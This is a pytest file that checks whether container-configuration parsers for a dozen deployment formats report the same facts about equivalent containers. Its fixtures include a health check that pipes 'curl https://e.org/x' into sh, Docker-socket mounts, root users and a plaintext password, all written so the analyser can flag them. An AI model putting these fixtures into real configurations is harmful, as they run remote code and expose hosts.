"""The law of the containers: the same container says the same, whatever format it is written in.

Equal is everything but where it stands, whom it belongs to, what the format calls a thing, and what the format cannot say.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from typing import Any

import pytest
from msgspec.structs import asdict

from immutable_delivery.context import ParseContext
from immutable_delivery.facts import Fact
from immutable_delivery.formats import (
    cloudformation,
    compose,
    contract,
    devcontainer,
    dockerfile,
    ecs,
    kamal,
    kubernetes,
    nomad,
    procfile,
    quadlet,
    score,
)
from immutable_delivery.source.files import MemoryFiles
from immutable_delivery.source.text import Text

DIGEST = f"sha256:{'0123456789abcdef' * 4}"
IMAGE = f"nginx:1.27.3@{DIGEST}"
GIT = f"alpine/git:2.45.2@{DIGEST}"

FORMATS: Mapping[str, Any] = {
    "compose.yaml": compose,
    "deploy.yaml": kubernetes,
    "task.json": ecs,
    "stack.json": cloudformation,
    "score.yaml": score,
    "web.container": quadlet,
    "web.nomad.hcl": nomad,
    "web.nomad.json": nomad,
    "config/deploy.yml": kamal,
    "Procfile": procfile,
    ".devcontainer/devcontainer.json": devcontainer,
    "delivery.yaml": contract,
    "Dockerfile": dockerfile,
}
"""The file that stands for each format."""

ASIDE = {
    "used_at", "extent", "places", "related", "scope", "workload", "origin", "host_path", "unresolved",
}  # fmt: skip
"""Where it stands, whom it belongs to, what the format calls it."""
NAMED = {"container_type", "name", "runs"}
UNSAID: Mapping[str, Mapping[str, set[str]]] = {
    "score.yaml": {"Container": {"image", "read_only_root", "builds"}},
    "Procfile": {
        "Container": {"image", "entry", "entrypoint", "read_only_root", "builds"},
        "Start": {"form", "argv"},
    },
    "compose.yaml": {"Container": {"image", "builds"}},
    "Dockerfile": {
        "Container": {
            "image", "builds", "entry", "read_only_root", "dockerfile", "stage", "last", "workdir", "adds_code", "code",
            "application",
        },
        "Variable": {"value", "literal"},
    },
}  # fmt: skip
"""Fields, by kind, that a format cannot say or says of the image that it builds itself."""
SILENT: Mapping[str, set[str]] = {
    "Procfile": {"Image", "Variable", "Mount"},
    "delivery.yaml": {"Container", "Contract", "Image", "Variable", "Mount"},
    ".devcontainer/devcontainer.json": {"Container", "Image", "Start"},
    "Dockerfile": {"Image", "Copy", "Mount"},
}
"""Kinds of facts that a format has not, or has of something else."""


def pod(container: str, volumes: str = "[]", more: str = "") -> str:
    return (
        "apiVersion: v1\nkind: Pod\nmetadata: {name: web}\nspec:\n"
        f"  containers: [{container}]\n  volumes: {volumes}\n{more}"
    )


def config_map(**texts: str) -> str:
    data = {name.replace("_", "."): text for name, text in texts.items()}
    return f"---\n{json.dumps({'apiVersion': 'v1', 'kind': 'ConfigMap', 'metadata': {'name': 'app'}, 'data': data})}\n"


MOUNTED = "volumeMounts: [{name: app, mountPath: /app}]"
APP = "[{name: app, configMap: {name: app}}]"


def task(volumes: list[Any] | None = None, **container: Any) -> str:
    whole = {"name": "web", "image": IMAGE, **container}
    return json.dumps({"family": "web", "containerDefinitions": [whole], "volumes": volumes or []})


def template(volumes: list[Any] | None = None, **container: Any) -> str:
    """Return a stack with a task definition, whose values may be functions."""
    whole = {"Name": "web", "Image": IMAGE, **container}
    properties = {"Family": "web", "ContainerDefinitions": [whole], "Volumes": volumes or []}
    resource = {"Type": "AWS::ECS::TaskDefinition", "Properties": properties}
    return json.dumps({"Parameters": {"X": {"Type": "String"}}, "Resources": {"Web": resource}})


def in_stack(registration: str) -> str:
    """Return a task definition as CloudFormation writes it: keys with a capital, labels as people wrote them."""
    held = json.loads(registration)
    (container,) = capital(held["containerDefinitions"])
    return template(capital(held["volumes"]), **container)


def capital(value: Any, *, free: bool = False) -> Any:
    if isinstance(value, list):
        return [capital(one) for one in value]
    if not isinstance(value, dict):
        return value
    return {
        key if free else f"{key[0].upper()}{key[1:]}": capital(one, free=key == "dockerLabels")
        for key, one in value.items()
    }


def workload(container: str) -> str:
    return f"apiVersion: score.dev/v1b1\nmetadata: {{name: web}}\ncontainers:\n  web: {{{container}}}\n"


def unit(*lines: str, image: str = IMAGE) -> str:
    return "\n".join(("[Container]", f"Image={image}", *lines, ""))


def job(*lines: str, image: str = IMAGE, around: str = "", after: str = "") -> str:
    """Return a job of Nomad in HCL: ``lines`` are of the driver, ``after`` of the task, ``around`` of the group."""
    config = "\n".join((f'image = "{image}"', *lines))
    task = f'task "web" {{\ndriver = "docker"\nconfig {{\n{config}\n}}\n{after}\n}}'
    return f'job "web" {{\ngroup "web" {{\n{around}\n{task}\n}}\n}}\n'


def api(volumes: Mapping[str, Any] | None = None, *, image: str = IMAGE, **task: Any) -> str:
    """Return a job as the API of Nomad takes it; ``Config`` holds what the driver gets beside the image."""
    config = {"image": image, **task.pop("Config", {})}
    whole = {"Name": "web", "Driver": "docker", "Config": config, **task}
    return json.dumps(
        {
            "Job": {
                "ID": "web",
                "TaskGroups": [{"Name": "web", "Volumes": volumes, "Tasks": [whole]}],
            }
        }
    )


def accessory(said: str = "", image: str = IMAGE) -> str:
    more = f", {said}" if said else ""
    return (
        f"service: shop\nimage: shop\naccessories: {{web: {{image: '{image}', host: a{more}}}}}\n"
    )


def built(command: list[str], *lines: str) -> dict[str, str]:
    """Return the formats that start a program of the repository."""
    words = json.dumps(command)
    image = "\n".join((f"FROM node:22.11.0@{DIGEST}", "WORKDIR /app", "COPY . .", *lines))
    return {
        "compose.yaml": f"services: {{web: {{build: ., entrypoint: {words}}}}}",
        "score.yaml": workload(f"image: ., command: {words}"),
        "Procfile": f"web: {' '.join(command)}\n",
        ".devcontainer/devcontainer.json": json.dumps({"postStartCommand": command}),
        "delivery.yaml": f"service: web\nimage: web\nstart: {words}\n",
        "Dockerfile": f"{image}\nENTRYPOINT {words}\n",
    }


def in_config(command: list[str], **texts: str) -> dict[str, str]:
    return {
        "deploy.yaml": pod(
            f"{{name: web, image: {IMAGE}, command: {json.dumps(command)}, workingDir: /app, {MOUNTED}}}",
            APP,
            config_map(**texts),
        )
    }


JAVASCRIPT = "/*\nnpm install express\n*/\nrequire('http')\n"
RUBY = "=begin\napt-get install -y curl\n=end\nputs 1\n"
PYTHON = '"""\npip install flask\n"""\nprint(1)\n'
CHAIN = {
    "a.sh": "sh ./b.sh\n",
    "b.sh": "sh ./c.sh\n",
    "c.sh": "pip install flask\n",
}

CONTAINERS: Mapping[str, Mapping[str, str]] = {
    "no user": {
        "web.nomad.hcl": job('entrypoint = ["run", "it"]'),
        "web.nomad.json": api(Config={"entrypoint": ["run", "it"]}),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, entrypoint: [run, it]}}}}",
        "deploy.yaml": pod(f"{{name: web, image: {IMAGE}, command: [run, it]}}"),
        "task.json": task(entryPoint=["run", "it"]),
        "score.yaml": workload(f"image: {IMAGE}, command: [run, it]"),
        "web.container": unit('Entrypoint=["run","it"]'),
        "Procfile": "web: run it\n",
        "Dockerfile": f'FROM {IMAGE}\nENTRYPOINT ["run", "it"]\n',
    },
    "user 0": {
        "web.nomad.hcl": job('entrypoint = ["run", "it"]', after='user = "0"'),
        "web.nomad.json": api(Config={"entrypoint": ["run", "it"]}, User="0"),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, user: '0', entrypoint: [run, it]}}}}",
        "deploy.yaml": pod(
            f"{{name: web, image: {IMAGE}, command: [run, it], securityContext: {{runAsUser: 0}}}}"
        ),
        "task.json": task(entryPoint=["run", "it"], user="0"),
        "web.container": unit('Entrypoint=["run","it"]', "User=0"),
        "Dockerfile": f'FROM {IMAGE}\nUSER 0\nENTRYPOINT ["run", "it"]\n',
    },
    "user by name": {
        "web.nomad.hcl": job('entrypoint = ["run", "it"]', after='user = "app"'),
        "web.nomad.json": api(Config={"entrypoint": ["run", "it"]}, User="app"),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, user: app, entrypoint: [run, it]}}}}",
        "task.json": task(entryPoint=["run", "it"], user="app"),
        "web.container": unit('Entrypoint=["run","it"]', "User=app"),
        "Dockerfile": f'FROM {IMAGE}\nUSER app\nENTRYPOINT ["run", "it"]\n',
    },
    "a program and its arguments": {
        "web.nomad.hcl": job('entrypoint = ["sh", "-c"]', 'args = ["next dev"]'),
        "web.nomad.json": api(Config={"entrypoint": ["sh", "-c"], "command": "next dev"}),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, entrypoint: [sh, -c], command: [next dev]}}}}",
        "deploy.yaml": pod(f"{{name: web, image: {IMAGE}, command: [sh, -c], args: [next dev]}}"),
        "task.json": task(entryPoint=["sh", "-c"], command=["next dev"]),
        "score.yaml": workload(f"image: {IMAGE}, command: [sh, -c], args: [next dev]"),
        "web.container": unit('Entrypoint=["sh","-c"]', "Exec='next dev'"),
        "Dockerfile": f'FROM {IMAGE}\nENTRYPOINT ["sh", "-c"]\nCMD ["next dev"]\n',
    },
    "a chain of three scripts": {
        **built(["sh", "a.sh"]),
        **in_config(["sh", "/app/a.sh"], a_sh="sh /app/b.sh\n", b_sh="sh /app/c.sh\n", c_sh=CHAIN["c.sh"]),
    },
    "npm prestart": built(["npm", "start"]),
    "a program in JavaScript": {
        **built(["node", "server.js"]),
        **in_config(["node", "/app/server.js"], server_js=JAVASCRIPT),
    },
    "a program in Ruby": {
        **built(["ruby", "server.rb"]),
        **in_config(["ruby", "/app/server.rb"], server_rb=RUBY),
    },
    "a program in Python, run by its path": {
        **built(["./server.py"]),
        **in_config(["/app/server.py"], server_py=PYTHON),
    },
    "an image whose own program takes the arguments": {
        "web.nomad.hcl": job('command = "clone"', 'args = ["https://example.org/a.git"]', image=GIT),
        "web.nomad.json": api(image=GIT, Config={"args": ["clone", "https://example.org/a.git"]}),
        "config/deploy.yml": accessory("cmd: clone https://example.org/a.git", GIT),
        "compose.yaml": f"services: {{web: {{image: {GIT}, command: [clone, 'https://example.org/a.git']}}}}",
        "deploy.yaml": pod(f"{{name: web, image: {GIT}, args: [clone, 'https://example.org/a.git']}}"),
        "task.json": task(image=GIT, command=["clone", "https://example.org/a.git"]),
        "score.yaml": workload(f"image: {GIT}, args: [clone, 'https://example.org/a.git']"),
        "web.container": unit("Exec=clone https://example.org/a.git", image=GIT),
    },
    "a secret by name": {
        "web.nomad.hcl": job(after='env {\nDB_PASSWORD = "hunter2hunter"\n}'),
        "web.nomad.json": api(Env={"DB_PASSWORD": "hunter2hunter"}),
        "config/deploy.yml": accessory("env: {clear: {DB_PASSWORD: hunter2hunter}}"),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, environment: {{DB_PASSWORD: hunter2hunter}}}}}}",
        "deploy.yaml": pod(f"{{name: web, image: {IMAGE}, env: [{{name: DB_PASSWORD, value: hunter2hunter}}]}}"),
        "task.json": task(environment=[{"name": "DB_PASSWORD", "value": "hunter2hunter"}]),
        "score.yaml": workload(f"image: {IMAGE}, variables: {{DB_PASSWORD: hunter2hunter}}"),
        "web.container": unit("Environment=DB_PASSWORD=hunter2hunter"),
        ".devcontainer/devcontainer.json": json.dumps({"containerEnv": {"DB_PASSWORD": "hunter2hunter"}}),
        "Dockerfile": f"FROM {IMAGE}\nENV DB_PASSWORD=hunter2hunter\n",
    },
    "a label": {
        "web.nomad.hcl": job('labels {\nteam = "shop"\n}'),
        "web.nomad.json": api(Config={"labels": [{"team": "shop"}]}),
        "config/deploy.yml": accessory("labels: {team: shop}"),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, labels: {{team: shop}}}}}}",
        "task.json": task(dockerLabels={"team": "shop"}),
        "web.container": unit("Label=team=shop"),
    },
    "a host path": {
        "web.nomad.hcl": job('volumes = ["/srv/data:/data"]'),
        "web.nomad.json": api(Config={"mount": [{"type": "bind", "source": "/srv/data", "target": "/data"}]}),
        "config/deploy.yml": accessory("volumes: ['/srv/data:/data']"),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, volumes: ['/srv/data:/data']}}}}",
        "deploy.yaml": pod(
            f"{{name: web, image: {IMAGE}, volumeMounts: [{{name: d, mountPath: /data}}]}}",
            "[{name: d, hostPath: {path: /srv/data}}]",
        ),
        "task.json": task(
            [{"name": "d", "host": {"sourcePath": "/srv/data"}}],
            mountPoints=[{"sourceVolume": "d", "containerPath": "/data"}],
        ),
        "web.container": unit("Volume=/srv/data:/data"),
        ".devcontainer/devcontainer.json": json.dumps({"mounts": ["type=bind,source=/srv/data,target=/data"]}),
    },
    "a socket": {
        "web.nomad.hcl": job('volumes = ["/var/run/docker.sock:/run/d.sock:ro"]'),
        "web.nomad.json": api(Config={"mount": [{"type": "bind", "source": "/var/run/docker.sock", "target": "/run/d.sock", "readonly": True}]}),
        "config/deploy.yml": accessory("volumes: ['/var/run/docker.sock:/run/d.sock:ro']"),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, volumes: ['/var/run/docker.sock:/run/d.sock:ro']}}}}",
        "deploy.yaml": pod(
            f"{{name: web, image: {IMAGE}, volumeMounts: [{{name: d, mountPath: /run/d.sock, readOnly: true}}]}}",
            "[{name: d, hostPath: {path: /var/run/docker.sock}}]",
        ),
        "task.json": task(
            [{"name": "d", "host": {"sourcePath": "/var/run/docker.sock"}}],
            mountPoints=[{"sourceVolume": "d", "containerPath": "/run/d.sock", "readOnly": True}],
        ),
        "web.container": unit("Volume=/var/run/docker.sock:/run/d.sock:ro"),
        ".devcontainer/devcontainer.json": json.dumps(
            {"mounts": ["type=bind,source=/var/run/docker.sock,target=/run/d.sock,readonly"]}
        ),
    },
    "a terminal, a working folder, nothing to write to": {
        "web.nomad.hcl": job("readonly_rootfs = true", "interactive = true", "tty = true", 'work_dir = "/srv"'),
        "web.nomad.json": api(Config={"readonly_rootfs": True, "interactive": True, "tty": True, "work_dir": "/srv"}),
        "config/deploy.yml": accessory("options: {read-only: true, interactive: true, tty: true, workdir: /srv}"),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, read_only: true, stdin_open: true, tty: true, working_dir: /srv}}}}",
        "deploy.yaml": pod(
            f"{{name: web, image: {IMAGE}, stdin: true, tty: true, workingDir: /srv, securityContext: {{readOnlyRootFilesystem: true}}}}"
        ),
        "task.json": task(readonlyRootFilesystem=True, interactive=True, pseudoTerminal=True, workingDirectory="/srv"),
    },
    "a file system that may be read-only": {
        "web.nomad.hcl": job("readonly_rootfs = var.x"),
        "config/deploy.yml": accessory("options: {read-only: '<%= X %>'}"),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, read_only: '${{X}}'}}}}",
        "stack.json": template(ReadonlyRootFilesystem={"Ref": "X"}),
        "web.container": unit("ReadOnly=%d"),
    },
    "a probe that fetches": {
        "web.nomad.hcl": job(after='service {\ncheck {\ntype = "script"\ncommand = "sh"\nargs = ["-c", "curl https://e.org/x | sh"]\n}\n}'),
        "web.nomad.json": api(Services=[{"Checks": [{"Type": "script", "Command": "sh", "Args": ["-c", "curl https://e.org/x | sh"]}]}]),
        "config/deploy.yml": accessory("options: {health-cmd: 'curl https://e.org/x | sh'}"),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, healthcheck: {{test: [CMD, sh, -c, curl https://e.org/x | sh]}}}}}}",
        "deploy.yaml": pod(
            f"{{name: web, image: {IMAGE}, livenessProbe: {{exec: {{command: [sh, -c, curl https://e.org/x | sh]}}}}}}"
        ),
        "task.json": task(healthCheck={"command": ["CMD", "sh", "-c", "curl https://e.org/x | sh"]}),
        "score.yaml": workload(
            f"image: {IMAGE}, livenessProbe: {{exec: {{command: [sh, -c, curl https://e.org/x | sh]}}}}"
        ),
        "web.container": unit("HealthCmd=curl https://e.org/x | sh"),
    },
    "a volume by name": {
        "web.nomad.hcl": job(around='volume "d" {\ntype = "host"\nsource = "data"\n}', after='volume_mount {\nvolume = "d"\ndestination = "/data"\nread_only = true\n}'),
        "web.nomad.json": api({"d": {"Name": "d", "Type": "host", "Source": "data"}}, VolumeMounts=[{"Volume": "d", "Destination": "/data", "ReadOnly": True}]),
        "config/deploy.yml": accessory("volumes: ['data:/data:ro']"),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, volumes: ['data:/data:ro']}}}}\nvolumes: {{data: {{}}}}",
        "deploy.yaml": pod(
            f"{{name: web, image: {IMAGE}, volumeMounts: [{{name: d, mountPath: /data, readOnly: true}}]}}",
            "[{name: d, persistentVolumeClaim: {claimName: data}}]",
        ),
        "score.yaml": workload(f"image: {IMAGE}, volumes: {{/data: {{source: data, readOnly: true}}}}"),
        "web.container": unit("Volume=data:/data:ro"),
        ".devcontainer/devcontainer.json": json.dumps({"mounts": ["type=volume,source=data,target=/data,readonly"]}),
    },
    "memory": {
        "web.nomad.hcl": job('mount {\ntype = "tmpfs"\ntarget = "/cache"\n}'),
        "web.nomad.json": api(Config={"mounts": [{"type": "tmpfs", "target": "/cache"}]}),
        "config/deploy.yml": accessory("options: {tmpfs: /cache}"),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, tmpfs: [/cache]}}}}",
        "web.container": unit("Tmpfs=/cache"),
        ".devcontainer/devcontainer.json": json.dumps({"mounts": ["type=tmpfs,target=/cache"]}),
    },
    "an image whose tag stays unknown": {
        "web.nomad.hcl": job(image="nginx:${var.x}"),
        "web.nomad.json": api(image="nginx:${NOMAD_META_x}"),
        "config/deploy.yml": accessory(image="nginx:<%= X %>"),
        "compose.yaml": "services: {web: {image: 'nginx:${X}'}}",
        "stack.json": template(Image={"Fn::Sub": "nginx:${X}"}),
        "score.yaml": workload("image: 'nginx:${X}'"),
        "web.container": unit(image="nginx:%d"),
    },
    "a word of the command that stays unknown": {
        "web.nomad.hcl": job('entrypoint = ["run", "${X}"]'),
        "web.nomad.json": api(Config={"entrypoint": ["run", "${X}"]}),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, entrypoint: [run, '${{X}}']}}}}",
        "stack.json": template(EntryPoint=["run", {"Ref": "X"}]),
        "score.yaml": workload(f"image: {IMAGE}, command: [run, '${{X}}']"),
    },
    "a pull policy": {
        "web.nomad.hcl": job("force_pull = true"),
        "web.nomad.json": api(Config={"force_pull": True}),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, pull_policy: always}}}}",
        "deploy.yaml": pod(f"{{name: web, image: {IMAGE}, imagePullPolicy: Always}}"),
        "web.container": unit("Pull=always"),
    },
    "a value that stays unknown": {
        "web.nomad.hcl": job(after="env {\nAPI_TOKEN = var.x\n}"),
        "web.nomad.json": api(Env={"API_TOKEN": "${NOMAD_META_x}"}),
        "config/deploy.yml": accessory("env: {secret: [API_TOKEN]}"),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, environment: {{API_TOKEN: '${{X}}'}}}}}}",
        "deploy.yaml": pod(
            f"{{name: web, image: {IMAGE}, env: [{{name: API_TOKEN, valueFrom: {{secretKeyRef: {{name: s, key: t}}}}}}]}}"
        ),
        "stack.json": template(Environment=[{"Name": "API_TOKEN", "Value": {"Ref": "X"}}]),
        "score.yaml": workload(f"image: {IMAGE}, variables: {{API_TOKEN: '${{resources.db.token}}'}}"),
        "web.container": unit("Environment=API_TOKEN=%d"),
        ".devcontainer/devcontainer.json": json.dumps({"containerEnv": {"API_TOKEN": "${localEnv:X}"}}),
    },
    "a user that stays unknown": {
        "web.nomad.hcl": job('entrypoint = ["run", "it"]', after="user = var.x"),
        "web.nomad.json": api(Config={"entrypoint": ["run", "it"]}, User="${NOMAD_META_x}"),
        "compose.yaml": f"services: {{web: {{image: {IMAGE}, user: '${{X}}', entrypoint: [run, it]}}}}",
        "stack.json": template(EntryPoint=["run", "it"], User={"Ref": "X"}),
        "web.container": unit('Entrypoint=["run","it"]', "User=%U"),
    },
}  # fmt: skip

CONTAINERS = {
    name: {"stack.json": in_stack(written["task.json"]), **written}
    if "task.json" in written
    else written
    for name, written in CONTAINERS.items()
}

REPOSITORY = {
    **CHAIN,
    "package.json": '{\n\t"scripts": {"prestart": "npm install left-pad", "clean": "rm -r {a,b}", "start": "node server.js"}\n}',
    "server.js": JAVASCRIPT,
    "server.rb": RUBY,
    "server.py": PYTHON,
}

EFFECTS = {"Install", "Fetch", "Command", "Unread"}
"""What is compared where a program is brought in another way: by a ConfigMap, not by the image."""

SAID: Mapping[str, tuple[str, Mapping[str, Any]]] = {
    "no user": ("Container", {"user": "", "root": None, "entry": ("run", "it")}),
    "user 0": ("Container", {"user": "0", "root": True}),
    "user by name": ("Container", {"user": "app", "root": False}),
    "a program and its arguments": ("Start", {"text": "'next dev'", "dev_server": "next dev"}),
    "a chain of three scripts": ("Install", {"manager": "pip", "command": "pip install"}),
    "npm prestart": ("Install", {"manager": "npm", "command": "npm install"}),
    "a program in JavaScript": ("Start", {"text": "node server.js", "script": ""}),
    "a program in Ruby": ("Start", {"text": "ruby server.rb", "script": ""}),
    "a program in Python, run by its path": ("Start", {"text": "./server.py", "script": ""}),
    "an image whose own program takes the arguments": (
        "Fetch",
        {"tool": "git", "url": "https://example.org/a.git"},
    ),
    "a secret by name": ("Variable", {"name": "DB_PASSWORD", "secret": "name"}),
    "a label": ("Variable", {"name": "team", "value": "shop", "variable_type": "label"}),
    "a host path": ("Mount", {"mount_type": "host", "source": "/srv/data", "host": True}),
    "a socket": ("Mount", {"runtime_socket": "socket", "read_only": True}),
    "a terminal, a working folder, nothing to write to": (
        "Container",
        {"read_only_root": True, "stdin": True, "tty": True, "workdir": "/srv"},
    ),
    "a file system that may be read-only": ("Container", {"read_only_root": None}),
    "a probe that fetches": ("Fetch", {"tool": "curl", "executed": "pipe"}),
    "a volume by name": ("Mount", {"mount_type": "volume", "source": "data", "read_only": True}),
    "memory": ("Mount", {"mount_type": "tmpfs", "source": "", "target": "/cache"}),
    "an image whose tag stays unknown": ("Image", {"pin": None, "reference": None}),
    "a word of the command that stays unknown": ("Start", {"argv": None}),
    "a pull policy": ("Image", {"pull_policy": "always"}),
    "a value that stays unknown": ("Variable", {"value": None, "secret": ""}),
    "a user that stays unknown": ("Container", {"user": None, "root": None}),
}
"""What has to be told of each, so that no silence passes for agreement."""

Told = list[tuple[str, dict[str, Any]]]


def told(name: str, path: str) -> Told:
    """Return what a format says of a container."""
    content = CONTAINERS[name][path]
    files = {**REPOSITORY, path: content}
    ctx = ParseContext(MemoryFiles(files))
    module = FORMATS[path]
    facts = list(module.facts({path: module.parse(Text(path, content))}, ctx))
    assert not ctx.troubles
    return [
        (type(fact).__name__, comparable(fact))
        for fact in facts
        if isinstance(fact, Fact) and type(fact).__name__ not in SILENT.get(path, ())
    ]


def comparable(fact: Fact) -> dict[str, Any]:
    aside = ASIDE | (NAMED if type(fact).__name__ == "Container" else set())
    whole = {field: value for field, value in asdict(fact).items() if field not in aside}
    if whole.get("reference", "") is None:
        del whole["text"]  # it spells the variable as the format does
    if "packages" in whole:
        whole["packages"] = [package.spec for package in whole["packages"]]
    return whole


def compared(facts: Told, *paths: str, brought: bool) -> list[str]:
    """Return the facts without what these formats cannot say, in an order of their own."""
    silent = {kind for path in paths for kind in SILENT.get(path, ())}
    found = []
    for kind, fields in facts:
        unsaid = {field for path in paths for field in UNSAID.get(path, {}).get(kind, ())}
        kept = {field: value for field, value in fields.items() if field not in unsaid}
        if kind in EFFECTS or not (brought or kind in silent):
            found.append(f"{kind} {sorted(kept.items())}")
    return sorted(found)


def reference(name: str) -> str:
    """Return the format that the others are held to: what it is does not matter."""
    formats = ("task.json", "stack.json", "score.yaml", "web.container")
    return next(path for path in formats if path in CONTAINERS[name])


def pairs() -> Iterator[Any]:
    """Yield every other format of every container."""
    for name, written in CONTAINERS.items():
        for path in written:
            if path != reference(name):
                yield pytest.param(name, path, id=f"{name}, {path}")


@pytest.mark.parametrize(("name", "path"), list(pairs()))
def test_the_same_container_says_the_same(name: str, path: str) -> None:
    first = reference(name)
    brought = "ConfigMap" in CONTAINERS[name][path]
    one, other = told(name, first), told(name, path)
    assert compared(other, first, path, brought=brought) == compared(
        one, first, path, brought=brought
    )


@pytest.mark.parametrize("name", CONTAINERS)
def test_something_is_said(name: str) -> None:
    kind, fields = SAID[name]
    found = [fact for of, fact in told(name, reference(name)) if of == kind]
    assert any(all(fact[field] == value for field, value in fields.items()) for fact in found)
